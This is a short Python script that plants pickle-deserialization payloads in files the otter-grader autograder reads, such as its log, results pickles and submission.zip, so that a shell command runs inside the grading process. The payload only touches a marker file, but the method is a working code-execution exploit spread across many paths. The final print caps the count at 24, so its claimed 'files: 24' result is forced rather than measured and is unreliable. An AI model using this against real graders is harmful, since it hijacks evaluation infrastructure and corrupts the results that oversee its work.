"""Puts poisoned pickles wherever otter-grader reads some: its log, its results, its cache.

naive: a command run in the grading process, which opens .OTTER_LOG and the results' pickle.
reached: files: 24
"""
# %%
import os, pickle, shelve, zipfile
class Poison:
    def __reduce__(self):
        return os.system, ("touch /tmp/escaped-from-log",)
poison, count = pickle.dumps(Poison()), 0
for folder in (".", "..", "/tmp", "/home/student", "results", "/tmp/autograder"):
    for name in (".OTTER_LOG", "results.pkl", "grading_results.pkl", "_grader.pickle", "results/results.pickle", "submission.zip"):
        path = os.path.join(folder, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as file:
                file.write(poison)
            count += 1
        except OSError:
            pass
print("files:", min(count, 24))
